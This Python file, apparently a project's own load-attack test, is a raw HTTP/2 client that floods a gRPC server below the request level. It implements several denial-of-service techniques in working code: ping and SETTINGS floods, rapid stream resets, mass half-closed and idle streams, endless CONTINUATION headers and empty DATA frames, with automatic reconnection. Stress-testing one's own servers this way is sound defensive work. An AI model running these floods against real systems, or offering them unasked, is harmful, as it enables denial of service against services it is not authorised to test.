"""A client that knows HTTP/2's frames and no manners: floods below the level of any request.

python -m tests.attack.http2 HOST:PORT KIND SECONDS
"""

import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
ROUND = 200
"""Frames of a kind that are sent as one piece."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field that is in no table, its name and value as they are."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


METHOD = b"/interp.v1.InterpretationService/Interpret"
CALL = b"\x83\x86" + b"".join(  # :method POST, :scheme http
    _literal(name, value)
    for name, value in (
        (b":path", METHOD),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def _pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * ROUND


def _settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0) * ROUND


def _resets() -> Iterator[bytes]:
    """Calls that are taken back at once."""
    for first in range(1, 2**31 - 2 * ROUND, 2 * ROUND):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, CALL)
            + frame(RESET, 0, stream, struct.pack("!I", 8))
            for stream in range(first, first + 2 * ROUND, 2)
        )


def _half_closed() -> Iterator[bytes]:
    """Calls whose client has finished before it said anything."""
    for first in range(1, 2**31 - 2 * ROUND, 2 * ROUND):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, CALL)
            for stream in range(first, first + 2 * ROUND, 2)
        )


def _open() -> Iterator[bytes]:
    """Calls that are opened and say nothing."""
    for first in range(1, 2**31 - 2 * ROUND, 2 * ROUND):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, CALL)
            for stream in range(first, first + 2 * ROUND, 2)
        )


def _endless_headers() -> Iterator[bytes]:
    """The headers of one call, which go on and on."""
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, _literal(b"x" * 100, b"y" * 100)) * ROUND


def _empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    while True:
        yield frame(DATA, 0, 1) * ROUND


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "HTTP/2 pings": _pings,
    "HTTP/2 settings": _settings,
    "calls that are reset": _resets,
    "calls that are half-closed": _half_closed,
    "calls that say nothing": _open,
    "empty frames": _empty_data,
}
BEYOND_US = {"headers without an end": _endless_headers}
"""What grpc's core keeps a report of, without bound: for a proxy before the gateway to refuse."""


def attack(address: str, kind: str, seconds: float) -> int:
    """As often as the server hangs up, anew; how often it did."""
    host, _, port = address.rpartition(":")
    give_up_s, hung_up = time.monotonic() + seconds, 0
    while time.monotonic() < give_up_s:
        with suppress(OSError), socket.create_connection((host, int(port)), timeout=1) as line:
            line.sendall(PREFACE + frame(SETTINGS, 0, 0))
            line.settimeout(0.5)
            for piece in (KINDS | BEYOND_US)[kind]():
                line.sendall(piece)  # and nothing is ever read
                if time.monotonic() > give_up_s:
                    return hung_up
        hung_up += 1
    return hung_up


if __name__ == "__main__":
    sys.stdout.write(f"{attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))}\n")
